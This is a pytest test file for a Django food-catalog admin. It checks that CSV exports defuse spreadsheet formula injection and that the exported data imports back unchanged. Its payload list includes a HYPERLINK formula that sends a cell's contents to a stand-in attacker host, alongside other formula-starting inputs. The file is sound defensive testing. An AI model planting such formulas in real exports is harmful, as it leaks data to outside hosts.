"""The admin's CSV export neutralises formulas: a curator opening it in a spreadsheet must
not run what someone typed into a food (failed on de20a7f: `=HYPERLINK(...)` was written
as it was, and a spreadsheet ran it)."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import CatalogFoodFactory, StaffUserFactory

# What spreadsheets (Excel, LibreOffice, Google Sheets) read as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def curator_client(client, db):
    client.force_login(StaffUserFactory(is_superuser=True))
    return client


@pytest.fixture
def hostile_foods(db):
    foods = []
    for index, text in enumerate(HOSTILE):
        food = CatalogFoodFactory(
            name=f"{text} {index}", description=text, curator_note=text, potassium_mg=100
        )
        food.portions.create(label=f"{text}", grams=50, is_default=True)
        foods.append(food)
    return foods


def exported(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_no_exported_cell_starts_a_formula(curator_client, hostile_foods):
    changelist = reverse("admin:foods_food_changelist")
    action = curator_client.post(
        changelist,
        {"action": "export_csv", "_selected_action": [food.pk for food in hostile_foods]},
    )
    assert action.status_code == 200
    from_action = list(csv.reader(io.StringIO(action.content.decode())))

    for rows in (exported(curator_client, reverse("admin:foods_food_export")), from_action):
        cells = [cell for row in rows[1:] for cell in row]
        assert cells
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        names = {row[3] for row in rows[1:]}
        assert '\'=HYPERLINK("https://evil.example/?d="&A1,"Click") 0' in names
        assert "'+1+1 1" in names


def test_numbers_are_still_numbers(curator_client, hostile_foods):
    rows = exported(curator_client, reverse("admin:foods_food_export"))
    potassium = rows[0].index("potassium_mg")
    assert {row[potassium] for row in rows[1:]} == {"100.0"}


def test_an_export_imports_back_unchanged(curator_client, hostile_foods):
    """The apostrophe comes off again. (Values that start with a tab or a carriage return
    never came back as they were: the import trims every cell, as it did before.)"""
    from django.core.files.uploadedfile import SimpleUploadedFile

    for food in hostile_foods:
        if food.description.startswith(("\t", "\r")):
            food.delete()
    text = curator_client.get(reverse("admin:foods_food_export")).content.decode()
    upload = SimpleUploadedFile("foods.csv", text.encode(), content_type="text/csv")

    response = curator_client.post(reverse("admin:foods_food_import"), {"file": upload})

    assert "0 to add, 0 to change, 4 unchanged" in response.content.decode()
